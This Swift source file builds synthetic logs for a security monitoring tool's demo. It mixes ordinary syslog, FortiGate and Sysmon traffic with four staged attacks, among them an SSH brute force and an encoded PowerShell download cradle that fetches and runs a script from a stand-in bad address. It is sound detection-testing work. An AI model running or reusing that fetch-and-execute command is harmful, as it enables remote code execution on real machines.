import Foundation

/// A small network's day, generated (deterministic for a seed) for `vigil demo`: ordinary
/// traffic from 12 hosts and 11 people, plus four attacks a newcomer should see detected —
/// an SSH brute force that ends in a login, a Word document that starts an encoded
/// PowerShell download, a workstation beaconing to a known-bad address, and a new account
/// added to the sudo group. Lines are in the formats real sources send (RFC 3164 syslog from
/// Linux, FortiGate key=value, Windows/Sysmon as evtx_dump and NXLog JSON), so they go through
/// the same parsers as production traffic.
struct DemoDataset {
    struct Line {
        var timeMs: Int64
        var source: String
        var hint: String
        var raw: String
    }

    static let badIP = "198.51.100.77"
    static let attackerIP = "203.0.113.45"
    static let newAccount = "support2"

    static let assetsCSV = """
    id,name,hostname,ip,criticality,os,owner,tags
    asset-web01,Public web server,web01,10.0.0.10,high,Debian 12,it-ops,dmz;linux
    asset-web02,Public web server 2,web02,10.0.0.11,high,Debian 12,it-ops,dmz;linux
    asset-db01,Customer database,db01,10.0.0.20,critical,Debian 12,it-ops,linux;pci
    asset-app01,Billing application,app01,10.0.0.30,high,Debian 12,it-ops,linux
    asset-dc01,Domain controller,dc01,10.0.0.5,critical,Windows Server 2022,it-ops,windows
    asset-fw01,Edge firewall,fw01,10.0.0.1,high,FortiOS 7.4,netops,network
    asset-ws-alice,Alice's laptop,ws-alice,10.0.1.21,medium,Windows 11,alice,windows;finance
    asset-ws-bob,Bob's laptop,ws-bob,10.0.1.23,medium,Windows 11,bob,windows;sales
    asset-ws-carol,Carol's laptop,ws-carol,10.0.1.25,medium,Windows 11,carol,windows;hr
    asset-ws-dave,Dave's laptop,ws-dave,10.0.1.27,medium,Windows 11,dave,windows;engineering
    asset-ws-erin,Erin's laptop,ws-erin,10.0.1.29,medium,Windows 11,erin,windows;engineering
    asset-ws-frank,Frank's laptop,ws-frank,10.0.1.31,low,Windows 11,frank,windows;sales

    """

    static let usersCSV = """
    sAMAccountName,userPrincipalName,displayName,department,title,manager,memberOf,privileged
    admin,admin@corp.example,Site Administrator,IT,Administrator,,Domain Admins;IT,true
    alice,alice@corp.example,Alice Doe,Finance,Controller,grace,Finance,false
    bob,bob@corp.example,Bob Stone,Sales,Account Executive,heidi,Sales,false
    carol,carol@corp.example,Carol King,HR,HR Partner,grace,HR,false
    dave,dave@corp.example,Dave Lee,Engineering,SRE,admin,Engineering;sudoers,true
    erin,erin@corp.example,Erin Park,Engineering,Developer,dave,Engineering,false
    frank,frank@corp.example,Frank Moss,Sales,Sales Rep,heidi,Sales,false
    grace,grace@corp.example,Grace Hall,Finance,CFO,,Finance;Executives,false
    heidi,heidi@corp.example,Heidi Cruz,Sales,VP Sales,,Sales;Executives,false
    deploy,deploy@corp.example,Deployment robot,IT,Service account,admin,IT;sudoers,true
    svc-backup,svc-backup@corp.example,Backup service,IT,Service account,admin,IT,false

    """

    /// A plain indicator list (one value per line) for the demo threat-intel feed.
    static let indicators = """
    # Vigil demo feed: addresses of a fictitious command-and-control network (documentation ranges)
    \(badIP)
    198.51.100.78
    192.0.2.200

    """

    static let servers = [("web01", "10.0.0.10"), ("web02", "10.0.0.11"), ("db01", "10.0.0.20"), ("app01", "10.0.0.30")]
    static let workstations = [("ws-alice", "10.0.1.21", "alice"), ("ws-bob", "10.0.1.23", "bob"), ("ws-carol", "10.0.1.25", "carol"),
                               ("ws-dave", "10.0.1.27", "dave"), ("ws-erin", "10.0.1.29", "erin"), ("ws-frank", "10.0.1.31", "frank")]
    static let websites = ["93.184.216.34", "151.101.1.69", "140.82.112.3", "142.250.185.78", "104.16.132.229", "13.107.42.14", "52.96.165.18"]

    /// SplitMix64: small, fast and the same on every machine for a seed.
    struct Random {
        var state: UInt64
        mutating func next() -> UInt64 {
            state &+= 0x9E37_79B9_7F4A_7C15
            var z = state
            z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
            z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
            return z ^ (z >> 31)
        }
        mutating func int(_ range: Range<Int>) -> Int { range.lowerBound + Int(next() % UInt64(range.count)) }
        mutating func pick<T>(_ a: [T]) -> T { a[int(0..<a.count)] }
    }

    /// The day ending at `endMs`: every line, sorted by time.
    static func generate(endMs: Int64, seed: UInt64 = 42) -> [Line] {
        var rng = Random(state: seed)
        var out: [Line] = []
        let start = endMs - 24 * 3_600_000
        func at(_ hoursAgo: Double) -> Int64 { endMs - Int64(hoursAgo * 3_600_000) }

        // Ordinary traffic.
        var t = start
        while t < endMs {   // the deploy robot logs in to each server every 20 minutes
            for (host, _) in servers {
                out.append(syslog(t + Int64(rng.int(0..<60_000)), host, "sshd", rng.int(1000..<30000),
                                  "Accepted publickey for deploy from 10.0.4.7 port \(rng.int(40000..<60000)) ssh2: ED25519 SHA256:k3Yq0demo"))
            }
            t += 20 * 60_000
        }
        for _ in 0..<60 {   // admins at work: sudo on servers
            let (host, _) = rng.pick(servers)
            let who = rng.pick(["dave", "admin"])
            let cmd = rng.pick(["/usr/bin/systemctl restart nginx", "/usr/bin/apt-get update", "/usr/bin/journalctl -u app", "/bin/df -h"])
            out.append(syslog(at(Double(rng.int(0..<1400)) / 60), host, "sudo", rng.int(1000..<30000),
                              "    \(who) : TTY=pts/0 ; PWD=/home/\(who) ; USER=root ; COMMAND=\(cmd)", facility: 85))
        }
        for (host, ip, user) in workstations {   // morning logons and everyday programs
            for k in 0..<3 {
                out.append(windowsLogon(at(Double(rng.int(0..<600)) / 60 + Double(k) * 4), host: host, user: user, ip: ip))
            }
            for _ in 0..<25 {
                let prog = rng.pick([("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
                                     ("OUTLOOK.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"),
                                     ("EXCEL.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"),
                                     ("Teams.exe", "C:\\Users\\\(user)\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe")])
                out.append(sysmonProcess(at(Double(rng.int(0..<1400)) / 60), host: host, user: user, image: prog.1,
                                         commandLine: "\"\(prog.1)\"", parent: "C:\\Windows\\explorer.exe", rng: &rng))
            }
            for _ in 0..<120 {   // web browsing through the firewall
                out.append(fortigate(at(Double(rng.int(0..<1440)) / 60), src: ip, dst: rng.pick(websites), dstPort: 443,
                                     action: "accept", rng: &rng))
            }
        }
        for _ in 0..<80 {   // the internet knocking: denied inbound
            out.append(fortigate(at(Double(rng.int(0..<1440)) / 60), src: "198.18.\(rng.int(0..<255)).\(rng.int(1..<255))",
                                 dst: "10.0.0.10", dstPort: rng.pick([23, 445, 3389, 8080]), action: "deny", rng: &rng))
        }
        for _ in 0..<4 {   // people mistype passwords
            let u = rng.pick(workstations)
            let when = at(Double(rng.int(60..<1400)) / 60)
            out.append(syslog(when, "app01", "sshd", rng.int(1000..<30000), "Failed password for \(u.2) from \(u.1) port \(rng.int(40000..<60000)) ssh2"))
            out.append(syslog(when + 9000, "app01", "sshd", rng.int(1000..<30000), "Accepted password for \(u.2) from \(u.1) port \(rng.int(40000..<60000)) ssh2"))
        }

        // 1. SSH brute force against web01 that ends in a successful login as admin.
        let bf = at(14)
        for k in 0..<40 {
            let user = k < 30 ? rng.pick(["root", "admin", "test", "oracle", "ubuntu"]) : "admin"
            let invalid = ["test", "oracle", "ubuntu"].contains(user)
            out.append(syslog(bf + Int64(k) * 4000, "web01", "sshd", 4000 + k,
                              "Failed password for \(invalid ? "invalid user " : "")\(user) from \(attackerIP) port \(41000 + k) ssh2"))
        }
        out.append(syslog(bf + 40 * 4000 + 2000, "web01", "sshd", 4100, "Accepted password for admin from \(attackerIP) port 41077 ssh2"))

        // 2. A Word document on bob's laptop starts PowerShell that downloads a payload.
        let ps = at(9)
        let payload = "IEX (New-Object Net.WebClient).DownloadString('http://\(badIP)/a.ps1')"
        let encoded = Data(payload.utf16.flatMap { [UInt8($0 & 0xff), UInt8($0 >> 8)] }).base64EncodedString()
        out.append(sysmonProcess(ps, host: "ws-bob", user: "bob", image: "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                                 commandLine: "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\bob\\Downloads\\Invoice_4471.docm\"",
                                 parent: "C:\\Windows\\explorer.exe", rng: &rng))
        out.append(sysmonProcess(ps + 15_000, host: "ws-bob", user: "bob", image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                 commandLine: "powershell.exe -NoP -W Hidden -enc \(encoded)",
                                 parent: "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", rng: &rng))

        // 3. From then on bob's laptop beacons to the known-bad address every 5 minutes.
        var b = ps + 60_000
        while b < endMs {
            out.append(fortigate(b + Int64(rng.int(0..<5000)), src: "10.0.1.23", dst: badIP, dstPort: 443, action: "accept", rng: &rng))
            b += 5 * 60_000
        }

        // 4. The intruder on web01 is now on db01: a new account, added to sudo.
        let adm = at(3)
        out.append(syslog(adm, "db01", "useradd", 4410,
                          "new user: name=\(newAccount), UID=1005, GID=1005, home=/home/\(newAccount), shell=/bin/bash, from=/dev/pts/1", facility: 86))
        out.append(syslog(adm + 20_000, "db01", "usermod", 4415, "add '\(newAccount)' to group 'sudo'", facility: 86))

        return out.filter { $0.timeMs <= endMs }.sorted { $0.timeMs < $1.timeMs }
    }

    // MARK: formats

    static let months = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]

    static func utc(_ ms: Int64) -> DateComponents {
        var cal = Calendar(identifier: .gregorian)
        cal.timeZone = TimeZone(identifier: "UTC")!
        return cal.dateComponents([.year, .month, .day, .hour, .minute, .second, .nanosecond], from: Date(timeIntervalSince1970: Double(ms) / 1000))
    }

    /// RFC 3164: `<PRI>Mmm dd hh:mm:ss host app[pid]: message` (UTC; no year, as real syslog sends it).
    static func syslog(_ ms: Int64, _ host: String, _ app: String, _ pid: Int, _ msg: String, facility: Int = 38) -> Line {
        let c = utc(ms)
        let ts = String(format: "%@ %2d %02d:%02d:%02d", months[c.month! - 1], c.day!, c.hour!, c.minute!, c.second!)
        return Line(timeMs: ms, source: "demo:linux", hint: "", raw: "<\(facility)>\(ts) \(host) \(app)[\(pid)]: \(msg)")
    }

    static func fortigate(_ ms: Int64, src: String, dst: String, dstPort: Int, action: String, rng: inout Random) -> Line {
        let c = utc(ms)
        let date = String(format: "%04d-%02d-%02d", c.year!, c.month!, c.day!)
        let time = String(format: "%02d:%02d:%02d", c.hour!, c.minute!, c.second!)
        let inbound = !src.hasPrefix("10.")
        let raw = "<189>date=\(date) time=\(time) devname=\"fw01\" devid=\"FGT60FTK20000000\" logid=\"0000000013\" type=\"traffic\" "
            + "subtype=\"forward\" level=\"notice\" vd=\"root\" tz=\"+0000\" srcip=\(src) srcport=\(rng.int(30000..<65000)) "
            + "srcintf=\"\(inbound ? "wan1" : "internal")\" dstip=\(dst) dstport=\(dstPort) dstintf=\"\(inbound ? "internal" : "wan1")\" "
            + "proto=6 action=\"\(action)\" policyid=\(inbound ? 9 : 1) policyname=\"\(inbound ? "Inbound default deny" : "Outbound web")\" "
            + "service=\"\(dstPort == 443 ? "HTTPS" : "tcp/\(dstPort)")\" sentbyte=\(action == "accept" ? rng.int(400..<9000) : 0) "
            + "rcvdbyte=\(action == "accept" ? rng.int(900..<90000) : 0)"
        return Line(timeMs: ms, source: "demo:firewall", hint: "", raw: raw)
    }

    static func json(_ o: Any) -> String {
        let d = (try? JSONSerialization.data(withJSONObject: o, options: [.sortedKeys])) ?? Data("{}".utf8)
        return String(decoding: d, as: UTF8.self)
    }

    static func iso(_ ms: Int64) -> String {
        let c = utc(ms)
        return String(format: "%04d-%02d-%02dT%02d:%02d:%02d.%03dZ", c.year!, c.month!, c.day!, c.hour!, c.minute!, c.second!, Int(ms % 1000))
    }

    /// Sysmon event 1 (process created) in evtx_dump's JSON form.
    static func sysmonProcess(_ ms: Int64, host: String, user: String, image: String, commandLine: String, parent: String,
                              rng: inout Random) -> Line {
        let event: [String: Any] = ["Event": [
            "System": ["Provider": ["#attributes": ["Name": "Microsoft-Windows-Sysmon", "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"]],
                       "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": host,
                       "EventRecordID": rng.int(100_000..<999_999),
                       "TimeCreated": ["#attributes": ["SystemTime": iso(ms)]]],
            "EventData": ["UtcTime": String(iso(ms).dropLast().replacingOccurrences(of: "T", with: " ")),
                          "ProcessId": rng.int(1000..<20000), "Image": image, "CommandLine": commandLine,
                          "User": "CORP\\\(user)", "IntegrityLevel": "Medium", "ParentImage": parent,
                          "ParentProcessId": rng.int(1000..<20000), "CurrentDirectory": "C:\\Users\\\(user)\\"]]]
        return Line(timeMs: ms, source: "demo:windows", hint: "json", raw: json(event))
    }

    /// Windows 4624 (successful logon) as NXLog sends it.
    static func windowsLogon(_ ms: Int64, host: String, user: String, ip: String) -> Line {
        let c = utc(ms)
        let t = String(format: "%04d-%02d-%02d %02d:%02d:%02d", c.year!, c.month!, c.day!, c.hour!, c.minute!, c.second!)
        let o: [String: Any] = ["EventTime": t, "Hostname": "\(host).corp.example", "EventID": 4624, "Channel": "Security",
                                "SourceName": "Microsoft-Windows-Security-Auditing", "EventType": "AUDIT_SUCCESS",
                                "TargetUserName": user, "TargetDomainName": "CORP", "LogonType": "2", "IpAddress": ip,
                                "Message": "An account was successfully logged on."]
        return Line(timeMs: ms, source: "demo:windows", hint: "json", raw: json(o))
    }
}
